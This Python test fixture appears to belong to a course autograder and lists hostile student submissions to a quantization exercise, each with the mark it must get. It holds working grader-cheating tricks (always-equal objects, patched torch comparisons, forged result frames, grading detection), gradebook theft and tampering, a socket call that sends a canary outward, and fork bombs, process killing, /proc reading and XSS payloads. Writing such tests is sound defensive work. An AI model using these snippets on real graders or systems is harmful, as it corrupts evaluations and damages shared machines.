"""Submissions that set out to cheat, to break out or to break down, each with the mark it must get.

Each attack is an answer to `symmetric_scale` (2 points), with a cell before it where it needs one. Around it stand two
honest answers: `dequantize` before it, which must keep its 3 points whatever happens, and `sqnr_db` after it (2).
"""

from __future__ import annotations

from dataclasses import dataclass

__all__ = ["ATTACKS", "CANARY", "HONEST", "Attack"]

CANARY = "canary-5f2a9c"
HONEST = {
    "dequantize": "def dequantize(q, scale, zero_point=0):\n    return (q.to(torch.float32) - zero_point) * scale",
    "sqnr_db": """\
def sqnr_db(x, x_hat):
    signal, noise = x.square().sum().item(), (x - x_hat).square().sum().item()
    return 10 * math.log10(signal / noise) if noise > 0 else math.inf
""",
}
SETUP = """\
import math
import torch
from torch import Tensor
from coursekit import quantization as cq
from coursekit.notebook import check, hint, use
from coursekit.quantization import check_finite, int_range
"""
WRONG = "def symmetric_scale(x, n_bits=8):\n    return -1.0"


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Args: row: of the attack table, or "" for our own. answer: what stands in the cell of `symmetric_scale`. before: a
          cell of hers above it. points: what `symmetric_scale` must get. after: what `sqnr_db` must get at least; less
          than 2 only where she breaks her own notebook. flagged: whether a person must be told.
    """

    name: str
    answer: str = WRONG
    before: str = ""
    row: str = ""
    points: float = 0.0
    after: float = 2.0
    flagged: bool = True


def returns(expression: str, before: str = "", **more: object) -> dict[str, object]:
    body = f"def symmetric_scale(x, n_bits=8):\n    return {expression}"
    return {"answer": body, "before": before, **more}


def does(statements: str, **more: object) -> dict[str, object]:
    lines = "\n".join(f"    {line}" for line in statements.strip().splitlines())
    return {"answer": f"def symmetric_scale(x, n_bits=8):\n{lines}\n    return -1.0", **more}


LIAR = """
class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 1
    def __float__(self): return 0.01
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
"""
TORCH_LIAR = """
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.tensor(True)
    def item(self): return 0.01
"""
SHAPE_LIAR = """
class Shape:
    shape, dtype = torch.Size([]), torch.float32
    def __array__(self, *a, **k):
        import numpy
        return numpy.array(0.01)
    def __float__(self): return 0.01
    def __getattr__(self, name): return lambda *a, **k: self
"""
FORGE_FRAMES = """
import json, os, struct, socket
def forge(message, payload=b""):
    text = json.dumps(message).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("!II", len(text), len(payload)) + text + payload)
        except OSError:
            pass
"""
PATCH_ENCODE = """
import sys
job = sys.modules["autograde.inside.job"]
job.encode = lambda *a, **k: ({tree}, b"{data}")
"""

_TABLE = {
    "blanks_cells": ("1", {"before": "get_ipython().input_transformers_post.append(lambda lines: [])", "after": 0.0}),
    "strips_asserts": ("2", {"before": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())"""}),
    "replaces_run_cell": ("3", {"before": """
shell = type(get_ipython())
shell.run_cell = lambda self, *a, **k: type("R", (), {"success": True})()""", "after": 0.0}),
    "replaces_run_cell_async": ("3", {"before": "get_ipython().run_cell_async = None", "after": 0.0}),
    "displays_a_result": ("4", does("import sys\nsys.displayhook(2.0)")),
    "returns_nan": ("4", returns("float('nan')", flagged=False)),
    "forges_partial_credit": ("5", does("import sys\nsys.displayhook(1)")),
    "always_equal": ("6", returns("Yes(-1.0)", LIAR)),
    "reads_the_inputs": ("7", does("print(get_ipython().user_ns['In'])\nopen('stolen', 'w').write(str(get_ipython().user_ns['In']))")),
    "reads_the_gradebook": ("8", does("""
import glob, os
for top in ("..", "../../..", "/", "{host}", "{repository}"):
    for path in ("classroom/gradebook.db", "gradebook.db", "secret.txt", "solutions"):
        path = os.path.join(top, path)
        if os.path.isfile(path): print(open(path, "rb").read())
        if os.path.isdir(path): print(os.listdir(path))""")),
    "writes_the_gradebook": ("9", does("""
import os, sqlite3
for top in ("..", "../../..", "{host}", "{repository}/classroom"):
    try:
        sqlite3.connect(os.path.join(top, "gradebook.db")).execute("update grade set manual_score = 100")
        open(os.path.join(top, "written.txt"), "w").write("x")
    except Exception:
        pass""")),
    "patches_torch": ("10", {"before": """
import builtins
torch.isclose = torch.allclose = lambda *a, **k: torch.tensor(True)
torch.Tensor.__eq__ = lambda *a: True
torch.equal = lambda *a: True
builtins.abs = lambda x: 0
math.isclose = lambda *a, **k: True"""}),
    "reaches_the_frames": ("10", does("""
import sys
frame = sys._getframe()
while frame is not None:
    for name, value in list(frame.f_locals.items()):
        if "passed" in name or "points" in name: frame.f_locals[name] = 2.0
    frame = frame.f_back""")),
    "imports_the_reference": ("11", returns("cq.symmetric_scale(x, n_bits)")),
    "imports_it_by_text": ("11", returns("getattr(__import__('coursekit.quantization.affine', fromlist=['x']), 'symmetric_' + 'scale')(x, n_bits)")),
    "imports_the_exercises": ("11", does("from coursekit.exercises import exercise\nreturn exercise('symmetric_scale').reference(x, n_bits)")),
    "uses_another_withheld": ("11", returns("cq.symmetric_scale_per_channel(x.reshape(1, -1), n_bits).item()")),
    "writes_scripts": ("13", {"before": """
from IPython.display import HTML, display
display(HTML("<script>alert('{canary}')</script><img src=x onerror=alert(1)>"))"""}),
    "leaves": ("20", does("import os\nos._exit(0)")),
    "segfaults": ("20", does("import ctypes\nctypes.string_at(0)")),
    "eats_memory": ("20", does("block = []\nwhile True: block.append(bytearray(50_000_000))", flagged=False)),
    "exits": ("21", does("import sys\nsys.exit()", flagged=False)),
    "hides_tracebacks": ("22", {"before": "get_ipython().showtraceback = lambda *a, **k: None", "answer": "raise ValueError"}),
    "never_ends": ("23", does("while True: pass")),
    "never_ends_deaf": ("23", does("while True:\n    try:\n        while True: pass\n    except KeyboardInterrupt: pass")),
    "never_ends_masked": ("23", does("import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))\nwhile True: pass")),
    "prints_20_megabytes": ("24", does("for _ in range(400): print('x' * 100_000)", flagged=False)),
    "prints_no_newline": ("24", {"before": "import sys\nwhile True: sys.stdout.write('x' * 100)"}),
    "prints_past_python": ("24", {"before": "import os\nwhile True: os.write(1, b'x' * 65536)"}),
    "prints_nul": ("25", {"before": "print('\\x00\\ud800' * 10); import os; os.write(1, b'\\xff\\x00')", "flagged": False}),
    "asks_whether_it_is_graded": ("29", does("import os\nif os.environ.get('NBGRADER_EXECUTION'): return -2.0")),
    "forks_without_end": ("30", {"before": "import os\ntry:\n    while True:\n        if os.fork() == 0: import time; time.sleep(100)\nexcept OSError: pass"}),
    "fills_the_disk": ("30", {"before": """
import os
for folder in ("/tmp", "/dev/shm", "."):
    try:
        for n in range(100): open(f"{folder}/f{n}", "wb").write(bytes(100_000_000))
    except OSError: pass""", "flagged": False}),
    "calls_home": ("30", {"before": """
import socket
for address in (("127.0.0.1", {port}), ("10.0.2.2", {port}), ("1.1.1.1", 53)):
    try: socket.create_connection(address, 0.5).send(b"{canary}")
    except OSError as error: print(type(error).__name__)"""}),
    "kills_everybody": ("30", {"before": "import os, signal\nfor pid in (-1, 0, os.getppid(), 1):\n    try: os.kill(pid, signal.SIGKILL)\n    except OSError: pass"}),
    "turns_the_clock": ("30", {"before": "import time\ntime.time = time.monotonic = time.perf_counter = lambda: 0.0"}),
    "unpickles": ("30", does("import pickle\nclass Bomb:\n    def __reduce__(self): return (open, ('{host}/written.txt', 'w'))\npickle.loads(pickle.dumps(Bomb()))")),
}  # fmt: skip

_OURS = {
    "right_once_wrong_later": {"before": "calls = []", "answer": """
def symmetric_scale(x, n_bits=8):
    calls.append(1)
    return 0.01 if len(calls) == 1 else -1.0""", "flagged": False},
    "tensor_of_lies": returns("torch.tensor(-1.0).as_subclass(Liar)", TORCH_LIAR),
    "object_of_lies": returns("Shape()", SHAPE_LIAR),
    "int_of_lies": returns("I(-1)", "class I(int):\n    def __eq__(self, o): return True\n    def __hash__(self): return 0\n    def __truediv__(self, o): return 0.01"),
    "bool_for_a_number": returns("True", flagged=False),
    "list_in_itself": does("a = []\na.append(a)\nreturn a", flagged=False),
    "a_million_parts": returns("[0.01] * 1_000_000", flagged=False),
    "a_thousand_deep": does("a = 0.01\nfor _ in range(1000): a = [a]\nreturn a", flagged=False),
    "an_int_of_a_million_bits": returns("1 << 1_000_000", flagged=False),
    "a_text_of_100_megabytes": returns("'0' * 100_000_000", flagged=False),
    "two_gigabytes": returns("torch.zeros(500_000_000)", flagged=False),
    "a_petabyte_of_one_number": returns("torch.zeros(1).expand(1_000_000_000_000)", flagged=False),
    "sparse": returns("torch.zeros(3).to_sparse()", flagged=False),
    "no_value_at_all": returns("torch.empty(3, device='meta')", flagged=False),
    "a_module": returns("torch", flagged=False),
    "a_function": returns("(lambda *a: 0.01)", flagged=False),
    "a_generator": {"answer": "def symmetric_scale(x, n_bits=8):\n    yield 0.01", "flagged": False},
    "a_coroutine": {"answer": "async def symmetric_scale(x, n_bits=8):\n    return 0.01", "flagged": False},
    "deep_recursion": returns("symmetric_scale(x, n_bits)", flagged=False),
    "recursion_without_limit": does("import sys\nsys.setrecursionlimit(10**9)\nreturn symmetric_scale(x, n_bits)"),
    "error_with_a_hanging_text": does("class E(Exception):\n    def __str__(self):\n        while True: pass\nraise E"),
    "error_with_markup": does("raise type('<script>alert(1)</script>', (Exception,), {})('<script>alert(2)</script>')"),
    "error_of_ours": does("raise type('MismatchError', (AssertionError,), {'passed': True})('passed')", flagged=False),
    "system_exit_with_points": does("raise SystemExit(2.0)", flagged=False),
    "not_her_name": {"answer": "def symmetric_s\u0441ale(x, n_bits=8):\n    return x.abs().max().item() / 127", "flagged": False},
    "own_check": {"before": "check = lambda name: 2.0\n2.0", "flagged": False},
    "own_report": {"before": """
from IPython.display import display
display({"application/vnd.coursekit.check+json": {"exercise": "symmetric_scale", "points": 2.0, "status": "passed"}}, raw=True)
2.0"""},
    "forges_an_answer": {"before": FORGE_FRAMES, **does("""
for n in range(200): forge({"type": "reply", "id": n, "outcome": "value", "value": -1.0, "points": 2.0, "status": "passed"})"""), "after": 0.0},
    "forges_garbage": {"before": FORGE_FRAMES, **does("forge({'type': ['x'] * 10, 'id': {}})\nforge({}, b'x' * 100)")},
    "forges_a_giant_frame": {"before": "import os", **does("for fd in range(3, 64):\n    try: os.write(fd, b'\\xff' * 8)\n    except OSError: pass")},
    "json_bomb": {"before": "import os, struct", **does("""
text = b"[" * 1_000_000
for fd in range(3, 64):
    try: os.write(fd, struct.pack("!II", len(text), 0) + text)
    except OSError: pass""")},
    "shape_without_bytes": {"before": PATCH_ENCODE.format(tree='{"T": ["float32", [1 << 30], None, 4]}', data="abcd"), "after": 0.0},
    "bytes_without_shape": {"before": PATCH_ENCODE.format(tree='{"T": ["float32", [], None, 4]}', data="abcd" * 9), "after": 0.0},
    "strides_out_of_bounds": {"before": PATCH_ENCODE.format(tree='{"T": ["float32", [2], [1 << 20], 8]}', data="abcdefgh"), "after": 0.0},
    "dtype_of_no_kind": {"before": PATCH_ENCODE.format(tree='{"T": ["__class__", [2], None, 8]}', data="abcdefgh"), "after": 0.0},
    "a_handle_of_nothing": {"before": PATCH_ENCODE.format(tree='{"o": {"h": -1, "n": "float", "c": True}}', data=""), "after": 0.0},
    "closes_its_channel": does("import os\nos.closerange(3, 256)"),
    "reads_proc": {"before": """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "maps", "mountinfo"):
        try: print(open(f"/proc/{pid}/{name}", "rb").read().decode("utf-8", "replace")[:20000])
        except OSError: pass"""},
    "looks_for_other_jobs": {"before": "import os\nprint(os.listdir('/run/jobs'))\nprint([os.readlink(f'/proc/self/fd/{n}') for n in os.listdir('/proc/self/fd') if os.path.islink(f'/proc/self/fd/{n}')])"},
    "looks_for_tests_in_memory": {"before": """
import gc, sys
print([m for m in sys.modules if "hidden" in m or "exercises" in m])
print([o.__name__ for o in gc.get_objects() if type(o).__name__ == "function" and o.__name__.startswith("test_scale")])"""},
    "reads_the_code_of_the_judge": {"before": "import glob\nfor p in glob.glob('/opt/**/*.py', recursive=True):\n    if 'site-packages' not in p and 'lib/python' not in p:\n        t = open(p).read()\n        if 'def test_' in t or 'HIDDEN' in t: print('{canary}', p)"},
    "makes_namespaces": {"before": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print([libc.unshare(flag) for flag in (0x10000000, 0x20000, 0x40000000)], libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
assert libc.unshare(0x10000000) == -1"""},
    "traces_its_parent": {"before": "import ctypes, os\nprint(ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0))"},
    "raises_its_limits": {"before": "import resource\ntry: resource.setrlimit(resource.RLIMIT_NPROC, (10**6, 10**6))\nexcept (ValueError, OSError): pass"},
    "leaves_a_daemon": {"before": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)"""},
    "leaves_a_thread": {"before": """
import threading, time
def forever():
    while True:
        print("x" * 100); time.sleep(0.01)
threading.Thread(target=forever, daemon=True).start()"""},
    "stays_after_fork": {"before": "import os\nos.fork()"},
    "evaluates_text": {"before": "exec('def symmetric_scale(x, n_bits=8): return -1.0')"},
    "opens_links": {"before": "import os\nfor p in ('{host}/secret.txt', '{repository}/solutions'):\n    try:\n        os.symlink(p, 'link'); print(open('link').read())\n    except OSError: pass"},
    "forbidden_by_alias": {"before": "from torch import fake_quantize_per_tensor_affine as helper", "answer": """
def symmetric_scale(x, n_bits=8):
    helper
    s = x.abs().max().item() / (2 ** (n_bits - 1) - 1)
    return s if s else 1.0""", "flagged": False},
}  # fmt: skip

ATTACKS = (
    *(Attack(name, row=row, **parts) for name, (row, parts) in _TABLE.items()),  # type: ignore[arg-type]
    *(Attack(name, **parts) for name, parts in _OURS.items()),  # type: ignore[arg-type]
)
